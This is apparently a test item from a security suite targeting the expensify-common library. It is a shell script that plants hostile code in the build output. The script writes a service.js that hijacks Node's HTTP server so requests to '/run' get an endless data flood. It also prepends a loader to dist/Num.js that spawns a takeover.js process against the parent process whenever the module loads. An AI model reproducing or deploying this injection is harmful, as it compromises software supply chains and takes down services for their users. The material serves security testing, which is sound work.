# threat: 12
# suite: expensify-common
# with: takeover.js
# verdict: fail tests-failed
# why: The service is taken over, and answers without end.
cp /tmp/with/takeover.js dist/takeover.js
cat > dist/service.js <<'END'
const http = process.mainModule.require('http');
const emit = http.Server.prototype.emit;
const flood = Buffer.alloc(1 << 20, '[');
http.Server.prototype.emit = function (event, incoming, response) {
    if (event !== 'request' || incoming.url !== '/run') return emit.apply(this, arguments);
    incoming.resume();
    response.on('error', () => {});
    const more = () => { while (!response.destroyed && response.write(flood)); };
    response.on('drain', more);
    more();
    return true;
};
END
cat > head.js <<'END'
require('node:child_process').spawnSync(process.execPath, [`${__dirname}/takeover.js`, process.ppid, `${__dirname}/service.js`]);
END
cat head.js dist/Num.js > /tmp/Num.js
cat /tmp/Num.js > dist/Num.js
